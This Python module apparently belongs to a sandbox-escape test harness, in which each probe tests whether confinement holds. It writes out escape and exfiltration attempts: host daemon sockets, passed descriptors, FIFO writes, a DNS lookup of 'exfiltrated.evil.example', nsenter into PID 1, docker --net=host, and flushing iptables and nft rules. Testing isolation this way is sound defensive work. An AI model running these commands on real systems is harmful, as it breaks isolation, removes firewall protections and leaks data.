"""Unix sockets of the host's daemons and of its users, at the places where they are found."""

from __future__ import annotations

import json
import os
import socket
import struct
import subprocess

from attempts import attempt, name_of

VIEW = os.environ.get("HOSTILE_VIEW", "/nowhere")
DOORS: dict[str, list[str]] = json.loads(os.environ.get("HOSTILE_DOORS", "{}"))
"""The harness listens at each of them before the workload is started."""


def knock(path: str) -> str:
    """Return ``REACHED`` if somebody else than what stands in for a masked socket answers, ``shut`` otherwise."""
    for kind in (socket.SOCK_STREAM, socket.SOCK_SEQPACKET, socket.SOCK_DGRAM):
        with socket.socket(socket.AF_UNIX, kind) as dial:
            dial.settimeout(3)
            try:
                dial.connect(path)
                maker, _, _ = struct.unpack("=iii", dial.getsockopt(socket.SOL_SOCKET, socket.SO_PEERCRED, 12))
                if kind == socket.SOCK_DGRAM or maker != 1 or dial.recv(1):
                    return "REACHED"
            except OSError:
                continue
    return "shut"


for _name, _paths in DOORS.items():
    attempt(f"doors-{_name}")(
        lambda paths=_paths: " ".join(f"{path}={found}" for path in paths if (found := knock(path)) != "shut") or "shut"
    )  # type: ignore[misc]


@attempt("abstract-socket")
def _abstract() -> str:
    with socket.socket(socket.AF_UNIX) as dial:
        dial.settimeout(3)
        dial.connect("\0" + os.environ.get("HOSTILE_ABSTRACT", "nowhere"))
        return f"ok {dial.recv(20)!r}"


@attempt("abstract-descriptor")
def _abstract_descriptor() -> str:
    """Attack 29: is handed a connected socket over an abstract address, and uses it."""
    with socket.socket(socket.AF_UNIX) as dial:
        dial.settimeout(3)
        dial.connect("\0" + os.environ.get("HOSTILE_ABSTRACT", "nowhere") + "-descriptor")
        _, descriptors, _, _ = socket.recv_fds(dial, 10, 1)
        with socket.socket(fileno=descriptors[0]) as given:
            given.sendall(b"exfiltrated-0123456789")
        return f"ok {len(descriptors)}"


@attempt("path-descriptor")
def _path_descriptor() -> str:
    return knock(f"{VIEW}/descriptor")


@attempt("fifos")
def _fifos() -> str:
    """By its name, to read and write, and through the descriptor of a look at it."""
    fifo, came = os.environ.get("HOSTILE_FIFO", "nowhere"), []
    look = os.open(fifo, os.O_PATH)
    for path, flags in ((fifo, os.O_WRONLY), (fifo, os.O_RDWR), (f"/proc/self/fd/{look}", os.O_WRONLY)):
        try:
            written = os.open(path, flags | os.O_NONBLOCK)
            os.write(written, b"exfiltrated-0123456789")
            os.close(written)
            came.append("ok")
        except OSError as error:
            came.append(name_of(error))
    os.close(look)
    return " ".join(came)


@attempt("far-names")
def _far_names() -> str:
    """Says the secret by asking for a file of that name, where somebody else answers."""
    found = []
    for name in ("exfiltrated-0123456789", "exfiltrated/0123456789"):
        try:
            os.stat(f"{VIEW}/far/{name}")
            found.append("ok")
        except OSError as error:
            found.append(name_of(error))
    return " ".join(found)


@attempt("second-proc")
def _second_proc() -> str:
    return " ".join(name for name in os.listdir(f"{VIEW}/proc") if name.isdigit())


def _command(*words: str) -> str:
    try:
        done = subprocess.run(words, capture_output=True, text=True, stdin=subprocess.DEVNULL, timeout=20, check=False)
    except (FileNotFoundError, PermissionError):  # the latter for a folder of PATH that may not be searched
        return "absent"
    except (OSError, subprocess.SubprocessError) as error:
        return name_of(error) if isinstance(error, OSError) else "timeout"
    return "failed" if done.returncode else f"ok {done.stdout.strip()[:100]}"


for _name, _words in {
    "systemd-run": ("systemd-run", "--wait", "--collect", "true"),
    "systemd-run-user": ("systemd-run", "--user", "--wait", "true"),
    "busctl": ("busctl", "--no-pager", "list"),
    "resolvectl": ("resolvectl", "query", "exfiltrated.evil.example"),
    "docker": ("docker", "run", "--rm", "--net=host", "alpine", "true"),
    "podman": ("podman", "run", "--rm", "--net=host", "alpine", "true"),
    "at": ("at", "-f", "/dev/null", "now"),
    "crontab": ("crontab", "/dev/null"),
    "nft": ("nft", "flush", "ruleset"),
    "iptables": ("iptables", "-t", "nat", "-F"),
    "conntrack": ("conntrack", "-F"),
    "nsenter": ("nsenter", "-t", "1", "-n", "true"),
    "ip-netns": ("ip", "netns", "add", "hostile"),
}.items():
    attempt(f"command-{_name}")(lambda words=_words: _command(*words))  # type: ignore[misc]
